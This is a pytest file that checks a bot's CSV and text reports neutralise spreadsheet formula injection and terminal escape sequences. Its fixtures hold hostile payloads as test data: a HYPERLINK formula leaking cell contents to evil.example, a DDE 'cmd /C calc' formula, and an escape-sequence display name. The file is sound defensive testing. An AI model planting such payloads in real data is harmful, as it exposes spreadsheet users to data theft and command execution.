"""`report --format csv` opened in a spreadsheet runs nothing an officer typed (issue 12)."""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path

import pytest
from sqlalchemy import delete, update

from bot.reports.csvsafe import safe_cell
from db.migrate import upgrade
from db.models import Contact, Evidence
from db.session import make_engine, make_sessionmaker
from tests.cli_capsys import run
from tests.summary_scenario import build_campaign

NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
TEXT = "=cmd|' /C calc'!A0"


@pytest.fixture
def config(tmp_path: Path) -> Path:
    """The campaign, with an officer's Telegram name and an evidence text that are formulas."""
    url = f"sqlite+aiosqlite:///{tmp_path / 'csv.db'}"

    async def prepare() -> None:
        engine = make_engine(url)
        try:
            await upgrade(engine)
            sessionmaker = make_sessionmaker(engine)
            await build_campaign(sessionmaker)
            async with sessionmaker.begin() as session:
                await session.execute(
                    update(Contact)
                    .where(Contact.telegram_user_id == 800001)
                    .values(display_name=NAME)
                )
                await session.execute(
                    update(Evidence).where(Evidence.kind == "text").values(value=TEXT)
                )
                # Without the page's URL first, the evidence cell starts with the text.
                await session.execute(delete(Evidence).where(Evidence.kind == "url"))
        finally:
            await engine.dispose()

    asyncio.run(prepare())
    path = tmp_path / "config.toml"
    path.write_text(f'[database]\nurl = "{url}"\n', encoding="utf-8")
    return path


def test_a_formula_in_a_name_or_an_evidence_text_comes_out_as_text(
    capsys: pytest.CaptureFixture[str], config: Path
) -> None:
    code, out, err = run(capsys, "report", "1", "--format", "csv", "-c", str(config))
    assert (code, err) == (0, "")
    rows = {row["agency_code"]: row for row in csv.DictReader(io.StringIO(out))}
    assert rows["so-y-te"]["acknowledged_by"] == "'" + NAME
    assert rows["so-y-te"]["evidence"] == "'" + TEXT
    assert not any(
        cell.startswith(("=", "+", "-", "@")) for row in rows.values() for cell in row.values()
    )


def test_the_tree_csv_is_made_safe_too(capsys: pytest.CaptureFixture[str], config: Path) -> None:
    code, out, _ = run(capsys, "report", "1", "--tree", "--format", "csv", "-c", str(config))
    assert code == 0
    rows = {row["agency_code"]: row for row in csv.DictReader(io.StringIO(out))}
    assert rows["so-y-te"]["acknowledged_by"] == "'" + NAME


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_defused(start: str) -> None:
    assert safe_cell(start + "1+1") == "'" + start + "1+1"


def test_plain_text_and_numbers_are_left_alone() -> None:
    assert (safe_cell("Sở Y tế"), safe_cell(3), safe_cell("")) == ("Sở Y tế", 3, "")


def test_the_text_table_shows_control_characters_as_question_marks(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    url = f"sqlite+aiosqlite:///{tmp_path / 'esc.db'}"

    async def prepare() -> None:
        engine = make_engine(url)
        try:
            await upgrade(engine)
            sessionmaker = make_sessionmaker(engine)
            await build_campaign(sessionmaker)
            async with sessionmaker.begin() as session:
                await session.execute(
                    update(Contact)
                    .where(Contact.telegram_user_id == 800001)
                    .values(display_name="An\x1b]0;pwned\x07\x9b2J")
                )
        finally:
            await engine.dispose()

    asyncio.run(prepare())
    config = tmp_path / "config.toml"
    config.write_text(f'[database]\nurl = "{url}"\n', encoding="utf-8")
    code, out, _ = run(capsys, "report", "1", "-c", str(config))
    assert code == 0
    assert "An?]0;pwned??2J" in out
    assert not any((ord(c) < 32 and c != "\n") or 127 <= ord(c) < 160 for c in out)
